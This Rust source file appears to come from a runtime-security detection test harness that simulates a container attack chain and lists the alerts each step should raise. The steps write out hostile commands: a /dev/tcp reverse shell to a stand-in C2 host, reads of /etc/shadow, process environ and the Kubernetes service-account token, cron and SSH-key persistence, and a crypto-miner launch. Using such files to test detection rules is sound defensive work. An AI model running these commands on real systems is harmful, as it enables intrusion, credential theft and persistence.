//! The kill chain itself (each step, what it must raise) and the benign phase.
use super::*;

// ------------------------------------------------------------------ the chain

pub(crate) type Action = Box<dyn Fn(&Pod) -> Result<()>>;

pub(crate) struct Step {
    pub(crate) name: &'static str,
    pub(crate) run: Action,
    pub(crate) expect: Vec<Expect>,
}

pub(crate) fn steps(pid1: u32) -> Vec<Step> {
    let sa_token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    let discovery = "Discovery command in container";
    vec![
        Step {
            name: "recon: id",
            run: Box::new(|p| p.run("id", &[], None, None)),
            expect: vec![Expect { proc_name: Some("id"), ..ex(discovery, "Informational", "T1033") }],
        },
        Step {
            name: "recon: uname -a",
            run: Box::new(|p| p.run("uname", &["-a"], None, None)),
            expect: vec![Expect { proc_name: Some("uname"), ..ex(discovery, "Informational", "T1082") }],
        },
        Step {
            name: "recon: ps + /proc/1/status",
            run: Box::new(|p| {
                p.run("ps", &["-ef"], None, None)?;
                p.run("cat", &["/proc/1/status"], None, None)
            }),
            expect: vec![Expect { proc_name: Some("ps"), ..ex(discovery, "Informational", "T1057") }],
        },
        Step {
            name: "interactive shell (sh -i)",
            run: Box::new(|p| p.run("sh", &["-i"], None, Some("exit\n"))),
            expect: vec![ex("Terminal shell in container", "Warning", "T1059.004")],
        },
        Step {
            name: "environ of another process",
            run: Box::new(move |p| p.run("cat", &[&format!("/proc/{pid1}/environ")], None, None)),
            expect: vec![ex("Read process environment or memory", "Warning", "T1003.007")],
        },
        Step {
            name: "read /etc/shadow",
            run: Box::new(|p| p.run("cat", &["/etc/shadow"], None, None)),
            expect: vec![ex("Read sensitive file untrusted", "Warning", "T1003.008")],
        },
        Step {
            name: "read service account token",
            run: Box::new(move |p| p.run("cat", &[sa_token], None, None)),
            expect: vec![ex("Read service account token with file utility", "Warning", "T1528")],
        },
        Step {
            name: "cron persistence",
            run: Box::new(|p| {
                p.run("sh", &["-c", &format!("echo '* * * * * root /tmp/lnr-sim/xmrig' > {CRON_FILE}")], None, None)
            }),
            expect: vec![ex("Schedule cron job", "Warning", "T1053.003")],
        },
        Step {
            name: "SSH authorized_keys",
            run: Box::new(|p| {
                p.run(
                    "sh",
                    &["-c", &format!("echo 'ssh-ed25519 AAAAlnrsim sim@c2' >> {WORK}/home/.ssh/authorized_keys")],
                    None,
                    None,
                )
            }),
            expect: vec![ex("Modify SSH authorized keys", "Error", "T1098.004")],
        },
        Step {
            name: "reverse shell to C2:4444",
            run: Box::new(|p| {
                p.run("bash", &["-c", &format!("exec 3<>/dev/tcp/{C2_IP}/4444; echo hi >&3")], None, None)
            }),
            expect: vec![
                ex("Reverse shell command line", "Critical", "T1059.004"),
                ex("Outbound connection to suspicious port", "Warning", "T1071"),
            ],
        },
        Step {
            name: "crypto miner",
            run: Box::new(|p| p.run(&format!("{WORK}/xmrig"), &["-o", "stratum+tcp://pool.example:3333"], None, None)),
            expect: vec![
                ex("Crypto miner executed", "Critical", "T1496"),
                ex("Crypto mining pool in command line", "Critical", "T1496"),
            ],
        },
        Step {
            name: "setuid(0) as uid 1000",
            run: Box::new(|p| p.run("/usr/bin/python3", &["-c", "import os; os.setuid(0)"], Some(1000), None)),
            expect: vec![ex("Non sudo setuid", "Critical", "T1548.001")],
        },
    ]
}

/// The benign workload both the simulation and evtgen run in the pod: package-like file
/// activity, health checks against `c2_ip:8080`, and a `make` build whose test run
/// executes the fresh binary (a build context: compilers and their tests are not drift).
pub(crate) fn benign(p: &Pod, c2_ip: &str) -> Result<()> {
    // Package-manager-like file activity, in our own tree.
    p.run_ok(
        "sh",
        &[
            "-c",
            "mkdir -p pkg/usr/share/doc/lnr pkg/var/lib/dpkg/info && echo doc > pkg/usr/share/doc/lnr/README \
                 && echo files > pkg/var/lib/dpkg/info/lnr.list && tar -cf lnr.tar -C pkg . \
                 && mkdir -p root && tar -xf lnr.tar -C root && cp -r root/var root/var.bak",
        ],
    )?;
    // Health checks against the in-netns HTTP listener.
    for _ in 0..3 {
        p.run_ok("curl", &["-sf", "-o", "/dev/null", "-m", "2", &format!("http://{c2_ip}:8080/healthz")])?;
    }
    // A compile and its test run, driven by make.
    let w = Path::new(p.work);
    std::fs::write(w.join("hello.c"), "#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n")?;
    std::fs::write(w.join("Makefile"), "hello: hello.c\n\tcc -O0 -o hello hello.c\ncheck: hello\n\t./hello\n")?;
    p.run_ok("make", &["-s", "check"])
}
